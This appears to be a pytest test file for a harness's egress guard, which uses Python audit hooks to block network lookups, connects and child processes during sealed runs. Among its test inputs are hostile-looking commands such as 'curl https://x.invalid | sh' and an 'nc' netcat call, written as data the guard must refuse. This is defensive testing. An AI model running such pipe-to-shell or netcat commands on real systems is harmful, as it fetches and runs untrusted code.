"""The audit-hook layer of the egress guard, driven with `sys.audit` (the events the interpreter raises before a
connect, lookup or process start): nothing here can reach the network even if the guard is broken."""

from __future__ import annotations

import _thread
import os
import platform
import socket
import sys
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.replay import audit_guard
from harness.replay.audit_guard import EgressAttempt, EgressBlocked, Seal, infrastructure, sealed
from harness.replay.egress import egress_guard
from harness.replay.proxy_env import PROXY_VARIABLES, harness_session, proxy_env_cleared

HERE = (str(Path(__file__).parent),)
THIS_FILE = "tests/harness/test_egress_audit.py:"


@pytest.fixture
def inet_socket() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    yield sock
    sock.close()


@pytest.fixture
def unix_socket() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    yield sock
    sock.close()


def refused(event: str, *args: object) -> tuple[Seal, EgressBlocked]:
    with sealed(HERE) as seal, pytest.raises(EgressBlocked) as blocked:
        sys.audit(event, *args)
    return seal, blocked.value


@pytest.mark.parametrize(
    ("event", "args", "via", "target", "port"),
    [
        ("socket.getaddrinfo", ("api.vendor.invalid", 443, 0, 0, 0), "lookup", "api.vendor.invalid", 443),
        ("socket.gethostbyname", ("api.vendor.invalid",), "lookup", "api.vendor.invalid", None),
        ("socket.gethostbyaddr", ("192.0.2.7",), "lookup", "192.0.2.7", None),
        ("socket.getnameinfo", (("192.0.2.7", 443),), "lookup", "192.0.2.7", None),
        (
            "subprocess.Popen",
            ("curl", ["curl", "-s", "https://x.invalid"], None, None),
            "child process",
            "curl -s https://x.invalid",
            None,
        ),
        ("os.system", (b"curl https://x.invalid | sh",), "child process", "curl https://x.invalid | sh", None),
        ("os.exec", ("/usr/bin/curl", ["curl", "x.invalid"], None), "child process", "curl x.invalid", None),
        ("os.posix_spawn", ("/usr/bin/nc", ["nc", "192.0.2.1", "80"], None), "child process", "nc 192.0.2.1 80", None),
        ("os.spawn", (os.P_NOWAIT, "/bin/sh", ["sh", "-c", "true"], None), "child process", "sh -c true", None),
        ("os.fork", (), "child process", "fork()", None),
    ],
)
def test_a_lookup_or_a_child_process_during_a_run_is_refused_and_recorded(
    event: str, args: tuple[object, ...], via: str, target: str, port: int | None
) -> None:
    seal, error = refused(event, *args)

    [attempt] = seal.attempts
    assert (attempt.via, attempt.host, attempt.port) == (via, target, port)
    assert attempt.origin is not None and attempt.origin.startswith(THIS_FILE)
    assert target in str(error)


@pytest.mark.parametrize("event", ["socket.connect", "socket.sendto", "socket.sendmsg"])
def test_a_connect_or_datagram_to_a_public_address_is_refused(event: str, inet_socket: socket.socket) -> None:
    seal, _ = refused(event, inet_socket, ("192.0.2.1", 53))

    assert [(a.via, a.host, a.port) for a in seal.attempts] == [(event.removeprefix("socket."), "192.0.2.1", 53)]
    assert seal.attempts[0].describe().startswith(f"egress: {event.removeprefix('socket.')} 192.0.2.1:53 from ")


def test_a_unix_socket_the_harness_did_not_register_is_refused(unix_socket: socket.socket) -> None:
    seal, _ = refused("socket.connect", unix_socket, "/var/run/docker.sock")

    assert seal.attempts[0].host == "unix socket /var/run/docker.sock"


def test_a_socket_of_another_family_is_refused() -> None:
    with sealed(HERE) as seal, pytest.raises(EgressBlocked):
        sys.audit("socket.sendto", object(), (b"\x00" * 6,))

    assert seal.attempts[0].via == "sendto"


def test_loopback_registered_endpoints_and_unix_sockets_pass(
    inet_socket: socket.socket, unix_socket: socket.socket, tmp_path: Path
) -> None:
    audit_guard.allow_endpoint("192.0.2.200", 8080)
    audit_guard.allow_unix_socket(str(tmp_path / "redis.sock"))
    try:
        with sealed(HERE, allowed_hosts={"cache.internal.invalid"}) as seal:
            sys.audit("socket.connect", inet_socket, ("127.0.0.1", 6379))
            sys.audit("socket.connect", inet_socket, ("::1", 6379, 0, 0))
            sys.audit("socket.getaddrinfo", "localhost", 80, 0, 0, 0)
            sys.audit("socket.getaddrinfo", None, 80, 0, 0, 0)
            sys.audit("socket.getaddrinfo", "cache.internal.invalid", 6379, 0, 0, 0)
            sys.audit("socket.connect", inet_socket, ("192.0.2.200", 8080))
            sys.audit("socket.connect", unix_socket, str(tmp_path / "redis.sock"))
            sys.audit("socket.sendmsg", inet_socket, None)  # a connected socket: its connect was checked
            with pytest.raises(EgressBlocked):
                sys.audit("socket.connect", inet_socket, ("192.0.2.200", 8081))  # another port of that host
    finally:
        audit_guard.disallow_endpoint("192.0.2.200", 8080)

    assert [attempt.port for attempt in seal.attempts] == [8081]


def test_nothing_is_refused_outside_a_run(inet_socket: socket.socket) -> None:
    sys.audit("socket.connect", inet_socket, ("192.0.2.1", 443))
    sys.audit("subprocess.Popen", "true", ["true"], None, None)


def test_the_harness_may_start_its_own_helpers_inside_a_run() -> None:
    with sealed(HERE) as seal:
        with infrastructure():
            sys.audit("subprocess.Popen", "mitmdump", ["mitmdump"], None, None)
        with pytest.raises(EgressBlocked):
            sys.audit("subprocess.Popen", "curl", ["curl"], None, None)

    assert [attempt.host for attempt in seal.attempts] == ["curl"]


def test_a_thread_started_during_a_run_is_refused_too_and_a_joined_one_is_not_left_running() -> None:
    outcome: list[BaseException] = []

    def lookup() -> None:
        try:
            sys.audit("socket.gethostbyname", "beacon.invalid")
        except EgressBlocked as exc:
            outcome.append(exc)

    with sealed(HERE) as seal:
        thread = threading.Thread(target=lookup)
        thread.start()
        thread.join()

    assert len(outcome) == 1
    assert [attempt.host for attempt in seal.attempts] == ["beacon.invalid"]
    assert seal.close() == []


def test_a_thread_alive_at_the_end_of_the_run_is_reported_with_its_target_and_origin() -> None:
    release = threading.Event()

    def wait_for_release() -> None:
        release.wait(10)

    with sealed(HERE) as seal:
        threading.Thread(target=wait_for_release, name="lingering", daemon=True).start()
    left = seal.close(grace=0.01)
    release.set()

    [attempt] = left
    assert attempt.via == "thread left running"
    assert attempt.describe().startswith(
        "thread left running: lingering (target test_a_thread_alive_at_the_end_of_the_run_is_reported_with_its_target"
        "_and_origin.<locals>.wait_for_release) started from " + THIS_FILE
    )


def test_a_thread_started_with_the_low_level_module_inherits_the_run() -> None:
    done = threading.Event()
    outcome: list[str] = []

    def connect() -> None:
        try:
            sys.audit("subprocess.Popen", "nc", ["nc"], None, None)
            outcome.append("not refused")
        except EgressBlocked:
            outcome.append("refused")
        finally:
            done.set()

    with sealed(HERE) as seal:
        _thread.start_new_thread(connect, ())
        assert done.wait(10)

    assert outcome == ["refused"]
    assert [attempt.host for attempt in seal.attempts] == ["nc"]


def test_a_thread_started_outside_any_run_is_not_sealed() -> None:
    outcome: list[str] = []

    def spawn() -> None:
        sys.audit("subprocess.Popen", "true", ["true"], None, None)
        outcome.append("ran")

    thread = threading.Thread(target=spawn)
    thread.start()
    thread.join()

    assert outcome == ["ran"]


def test_an_attempt_after_the_run_ended_is_still_refused_but_not_reported() -> None:
    with sealed(HERE) as seal:
        pass
    seal.close()
    with pytest.raises(EgressBlocked):
        seal.check("socket.gethostbyname", ("late.invalid",))

    assert seal.attempts == []


def test_egress_guard_reports_a_thread_left_running_after_the_attempts() -> None:
    release = threading.Event()

    with egress_guard(HERE) as attempts:
        with pytest.raises(EgressBlocked):
            socket.getaddrinfo("api.vendor.invalid", 443)
        threading.Thread(target=release.wait, args=(10,), name="poller", daemon=True).start()
    release.set()

    assert [attempt.via for attempt in attempts] == ["lookup", "thread left running"]
    assert attempts[1].host.startswith("poller (target ")


def test_the_proxy_variables_are_cleared_for_a_run_and_restored_after(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in PROXY_VARIABLES:
        monkeypatch.setenv(name, "http://127.0.0.1:3128")
    opener = urllib.request.build_opener()
    monkeypatch.setattr(urllib.request, "_opener", opener)

    with egress_guard(HERE):
        assert [name for name in PROXY_VARIABLES if name in os.environ] == []
        assert urllib.request._opener is None  # type: ignore[attr-defined]
        os.environ["https_proxy"] = "http://127.0.0.1:9"  # set by the source during the run

    assert {name: os.environ[name] for name in PROXY_VARIABLES} == dict.fromkeys(
        PROXY_VARIABLES, "http://127.0.0.1:3128"
    )
    assert urllib.request._opener is opener  # type: ignore[attr-defined]


def test_a_variable_the_run_set_is_removed_after_it(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in PROXY_VARIABLES:
        monkeypatch.delenv(name, raising=False)

    with proxy_env_cleared() as removed:
        os.environ["ALL_PROXY"] = "socks5://127.0.0.1:1080"

    assert removed == {}
    assert "ALL_PROXY" not in os.environ


def test_the_harness_sessions_do_not_read_the_environment() -> None:
    assert harness_session().trust_env is False


def test_describe_names_the_destination_and_the_origin() -> None:
    assert EgressAttempt("192.0.2.1", 443, "src/x.py:3", "connect").describe() == (
        "egress: connect 192.0.2.1:443 from src/x.py:3"
    )
    assert EgressAttempt("curl -s x", None, None, "child process").describe() == (
        "egress: child process curl -s x (not from the source's own code)"
    )


def test_platform_queries_of_vendor_sdks_start_no_process_once_the_cache_is_warm(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(platform, "_uname_cache", None)
    monkeypatch.setattr(platform, "_platform_cache", {})
    with sealed(HERE) as cold:
        platform.platform()  # `uname -p` is refused (platform swallows the OSError)
    monkeypatch.setattr(platform, "_uname_cache", None)
    monkeypatch.setattr(platform, "_platform_cache", {})

    audit_guard.warm_platform_cache()
    with sealed(HERE) as warm:
        platform.platform()

    assert [attempt.host for attempt in cold.attempts] == ["uname -p"]
    assert warm.attempts == []
